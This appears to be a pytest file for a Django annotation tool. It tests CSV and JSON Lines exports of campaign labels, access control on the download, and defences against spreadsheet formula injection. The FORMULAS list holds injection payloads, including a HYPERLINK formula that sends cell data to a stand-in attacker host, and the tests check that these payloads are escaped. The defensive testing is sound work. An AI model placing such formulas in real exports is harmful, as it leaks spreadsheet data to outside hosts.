"""Campaign export: every label, the skipped items and the adjudicated labels, as CSV and
JSON Lines, from the command and the staff download; nobody else may download."""
from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import call_command

from analysis.models import FailureCategory
from annotation import selectors, services
from annotation.models import Assignment
from tests.annotation.test_views import HOSTILE, relevance, reasons

pytestmark = pytest.mark.django_db


def export_lines(campaign, fmt):
    out = io.StringIO()
    call_command("export_campaign", "--campaign", str(campaign.pk), "--format", fmt, stdout=out)
    return out.getvalue()


def test_reasons_export_has_every_verdict_added_reason_skip_and_final(alice, bob, admin_user, tmp_path):
    campaign = reasons([alice, bob], overlap=2, n_reasons=2)
    category = FailureCategory.objects.order_by("position").first()
    a = services.assignment_next(campaign=campaign, user=alice)
    ids = selectors.item_reason_ids(item=a.item, task="h2r")  # 2 models x 2 reasons
    services.assignment_submit(
        assignment=a, user=alice, comment=HOSTILE, confidence=4, seconds_spent=12.5,
        verdicts={ids[0]: {"verdict": "agree", "category": category.pk}, **{i: "disagree" for i in ids[1:]}},
        added_reasons=[{"text": "needs 'numbers', \"quoted\"\nover two lines", "category": category.pk}],
    )
    b = services.assignment_next(campaign=campaign, user=bob)
    assert b.item_id == a.item_id
    services.assignment_submit(assignment=b, user=bob, verdicts={i: "agree" for i in ids})
    services.item_adjudicate(item=a.item, user=admin_user, verdicts={ids[0]: "disagree"})
    skipped = services.assignment_next(campaign=campaign, user=bob)
    services.assignment_skip(assignment=skipped, user=bob, reason="cannot tell")

    rows = [json.loads(line) for line in export_lines(campaign, "jsonl").splitlines()]
    # 4 verdicts + 1 added (alice), 4 verdicts (bob), 1 skipped row (bob)
    assert len(rows) == 10
    alice_rows = [r for r in rows if r["annotator"] == "alice"]
    assert {r["verdict"] for r in alice_rows} == {"agree", "disagree", "added"}
    first = next(r for r in alice_rows if r["reason_id"] == ids[0])
    assert first["category"] == category.name and first["final_verdict"] == "disagree"
    assert first["comment"] == HOSTILE and first["confidence"] == 4 and first["seconds_spent"] == 12.5
    assert first["model"] in {"llama-secret-model", "qwen-hidden-model"} and first["task"] == "h2r"
    added = next(r for r in alice_rows if r["verdict"] == "added")
    assert added["reason"].endswith("over two lines") and added["reason_id"] is None
    skip = next(r for r in rows if r["status"] == "skipped")
    assert skip["skip_reason"] == "cannot tell" and skip["verdict"] is None and skip["item"] == skipped.item_id

    # CSV: the same rows, multi-line and quoted text survives a round trip
    path = tmp_path / "labels.csv"
    call_command("export_campaign", "--campaign", str(campaign.pk), "--output", str(path))
    with path.open(newline="", encoding="utf-8") as fh:
        table = list(csv.DictReader(fh))
    assert len(table) == 10 and table[0].keys() == rows[0].keys()
    assert [r["reason"] for r in table] == [r["reason"] or "" for r in rows]


def test_relevance_export_and_the_staff_download(client, alice, bob, admin_user):
    campaign = relevance([alice, bob], n=2, overlap=2)
    for user, grade in ((alice, 3), (bob, 1)):
        lease = services.assignment_next(campaign=campaign, user=user)
        services.assignment_submit(assignment=lease, user=user, grade=grade)
    item = Assignment.objects.filter(user=alice).first().item
    services.item_adjudicate(item=item, user=admin_user, grade=2)

    client.force_login(admin_user)
    review = client.get(f"/annotation/campaigns/{campaign.pk}/review/").content.decode()
    assert f"/annotation/campaigns/{campaign.pk}/export/?format=csv" in review
    r = client.get(f"/annotation/campaigns/{campaign.pk}/export/?format=csv")
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    assert f'campaign-{campaign.pk}-labels.csv' in r["Content-Disposition"]
    table = list(csv.DictReader(io.StringIO(b"".join(r.streaming_content).decode())))
    assert sorted((t["annotator"], t["grade"], t["final_grade"]) for t in table) == [("alice", "3", "2"), ("bob", "1", "2")]
    assert {t["docid"] for t in table} == {item.passage.docid}
    r = client.get(f"/annotation/campaigns/{campaign.pk}/export/?format=jsonl")
    assert [json.loads(line)["grade"] for line in b"".join(r.streaming_content).decode().splitlines()] == [3, 1]
    assert client.get(f"/annotation/campaigns/{campaign.pk}/export/?format=xml").status_code == 404

    # annotators (even of this campaign) and anonymous users get no download
    client.force_login(alice)
    r = client.get(f"/annotation/campaigns/{campaign.pk}/export/")
    assert r.status_code == 403 and "This page is not for your account" in r.content.decode()
    client.logout()
    r = client.get(f"/annotation/campaigns/{campaign.pk}/export/")
    assert r.status_code == 302 and r["Location"].startswith("/accounts/login/")


def test_unknown_campaign_is_a_command_error():
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match="no campaign 999999"):
        export_lines(type("C", (), {"pk": 999999})(), "csv")


def test_api_export_for_pipelines(client, alice, admin_user):
    campaign = relevance([alice], n=2)
    lease = services.assignment_next(campaign=campaign, user=alice)
    services.assignment_submit(assignment=lease, user=alice, grade=0, comment="off topic")
    client.force_login(admin_user)
    r = client.get(f"/api/campaigns/{campaign.pk}/export/?format=jsonl")
    assert r.status_code == 200 and r["Content-Type"].startswith("application/x-ndjson")
    (row,) = [json.loads(line) for line in b"".join(r.streaming_content).decode().splitlines()]
    assert (row["annotator"], row["grade"], row["comment"], row["status"]) == ("alice", 0, "off topic", "done")
    r = client.get(f"/api/campaigns/{campaign.pk}/export/")
    assert r["Content-Type"].startswith("text/csv") and b"".join(r.streaming_content).decode().startswith("campaign,item,qid")
    r = client.get(f"/api/campaigns/{campaign.pk}/export/?format=xml")
    assert r.status_code == 400 and "format must be one of csv, jsonl" in r.content.decode()


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+SUM(1,2)", "-2+3", "@cmd", "\t=1+1", "\r=1+1"]


def _csv_table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_formula_comments_come_out_as_text_from_every_campaign_csv(client, alice, admin_user):
    """An annotator's ``=HYPERLINK(...)`` comment is a text cell (leading ``'``) in the
    command's CSV, the staff download and the API download; grades stay numbers."""
    campaign = relevance([alice], n=len(FORMULAS))
    for comment in FORMULAS:
        lease = services.assignment_next(campaign=campaign, user=alice)
        services.assignment_submit(assignment=lease, user=alice, grade=2, comment=comment)
    stored = set(Assignment.objects.filter(item__campaign=campaign).values_list("comment", flat=True))
    assert any(c.startswith("=HYPERLINK") for c in stored)

    client.force_login(admin_user)
    tables = {
        "command": _csv_table(export_lines(campaign, "csv")),
        "page": _csv_table(b"".join(client.get(f"/annotation/campaigns/{campaign.pk}/export/?format=csv").streaming_content).decode()),
        "api": _csv_table(b"".join(client.get(f"/api/campaigns/{campaign.pk}/export/?format=csv").streaming_content).decode()),
    }
    for where, table in tables.items():
        assert len(table) == len(FORMULAS), where
        comments = {row["comment"] for row in table}
        # every comment is there, each behind one apostrophe a spreadsheet does not show
        assert comments == {"'" + c if c.startswith(("=", "+", "-", "@", "\t", "\r")) else c for c in stored}, where
        assert not [v for row in table for v in row.values() if v and v[0] in "=+-@\t\r"], where
        assert {row["grade"] for row in table} == {"2"}, where

    # JSON Lines is not a spreadsheet format: the text is as written there.
    rows = [json.loads(line) for line in export_lines(campaign, "jsonl").splitlines()]
    assert {r["comment"] for r in rows} == stored
